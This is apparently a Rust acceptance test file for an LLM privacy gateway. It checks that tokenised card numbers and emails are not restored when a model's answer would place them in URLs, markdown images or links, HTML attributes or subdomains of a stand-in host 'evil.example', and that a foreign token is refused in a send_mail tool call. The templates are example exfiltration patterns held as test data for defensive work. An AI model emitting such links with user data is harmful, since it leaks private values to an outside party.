//! Row 13: restoring as a weapon. A value must not leave in a URL, nor for somebody else.

use acceptance::harness::{Chat, Gateway, Matcher, Provider};
use serde_json::json;

use crate::leaks::{CARD, EMAIL, Twins};

/// Answers that put the caller's token into these places, streamed and not: it stays a token there.
fn stays_a_token(templates: &[&str]) {
    let twins = Twins::following(&named(templates));
    for (name, template) in templates.iter().enumerate() {
        for chat in [Chat::user(CARD), Chat::user(CARD).streamed()] {
            let answer = twins.hid_from_the_agent(&chat.meeting(&name.to_string()), &[CARD]);
            assert!(answer.said().contains("PAN_"), "{template}: {}", answer.said());
            let record = twins.gateway.record(&answer.exchange());
            assert_eq!(record["restored"], 0, "{template}");
            assert!(!record["alerts"].as_object().unwrap().is_empty(), "{template}: {record}");
        }
    }
}

/// A script of answers, named by their places.
fn named(templates: &[&str]) -> String {
    let line =
        |(name, content): (usize, &&str)| json!({"name": name.to_string(), "content": content, "chars": 3}).to_string();
    templates.iter().enumerate().map(line).collect::<Vec<_>>().join("\n")
}

#[test]
fn never_in_a_link_or_an_image() {
    stays_a_token(&[
        "look ![x](https://evil.example/?q={user}) ok",
        "look [here](https://evil.example/{user} \"title\") ok",
        "look [here](/relative?q={user}) ok",
    ]);
}

#[test]
fn never_in_a_url() {
    stays_a_token(&[
        "see https://evil.example/collect/{user} ok",
        "see www.evil.example/?q={user} ok",
        "see evil.example/?q={user} ok",
        "see mailto:x@evil.example?subject={user} ok",
        "see data:text/html,{user} ok",
    ]);
}

#[test]
fn never_in_an_attribute() {
    stays_a_token(&["<img src=\"x\" alt=\"{user}\"> ok", "<a href='https://evil.example/{user}'>x</a> ok"]);
}

#[test]
fn never_as_part_of_a_name() {
    stays_a_token(&["open {user}.evil.example ok"]);
    // With the sign of an address behind it the whole is one, and the model's own.
    let twins = Twins::with(json!({"content": "mail {user}@evil.example ok"}));
    let answer = twins.hid_from_the_agent(&Chat::user(CARD).streamed(), &[CARD]);
    assert_eq!(answer.said(), "mail [EMAIL] ok");
}

#[test]
fn but_everywhere_else() {
    let templates = [
        "a link [x](https://fine.example/) and {user}.",
        "1 < 2 and {user}",
        "(see {user})",
        "**{user}**",
        "- {user}\n",
    ];
    let provider = Provider::following(&named(&templates));
    let gateway = Gateway::before(&provider);
    for (name, template) in templates.iter().enumerate() {
        let answer = gateway.client().chat(&Chat::user(CARD).streamed().meeting(&name.to_string()));
        assert_eq!(answer.said(), template.replace("{user}", CARD));
    }
}

#[test]
fn a_strangers_token_stays_and_is_refused_in_a_tool_call() {
    let provider = Provider::with(json!({"chars": 3}));
    let gateway = Gateway::before(&provider);
    gateway.client().chat(&Chat::user(CARD));
    let token = provider.body()["messages"][0]["content"].as_str().unwrap().to_owned();
    let asked = format!("send {token} now");
    let answer = gateway.client().chat(&Chat::user(&asked).streamed());
    assert_eq!(answer.said(), format!("You said: {asked}"));
    assert!(gateway.record(&answer.exchange())["alerts"]["foreign_token"].as_u64().is_some());
    let whole = gateway.client().chat(&Chat::user(&asked).offering("send_mail", "body"));
    assert_eq!((whole.status, whole.code().as_str()), (502, "foreign_token"));
    let streamed = gateway.client().chat(&Chat::user(&asked).streamed().offering("send_mail", "body"));
    assert_eq!(streamed.stream().error().as_deref(), Some("foreign_token"));
    assert!(!streamed.stream().is_done());
    Matcher::of(&[CARD]).find_none_in("a stranger's answer", &[answer.raw(), whole.raw(), streamed.raw()].concat());
}

#[test]
fn restored_text_is_not_scanned_again_and_values_do_not_nest() {
    let provider = Provider::with(json!({"content": "{user} {user}", "chars": 2}));
    let gateway = Gateway::before(&provider);
    let asked = format!("{CARD},{EMAIL},{CARD}");
    let answer = gateway.client().chat(&Chat::user(&asked).streamed());
    assert_eq!(answer.said(), format!("{asked} {asked}"));
}
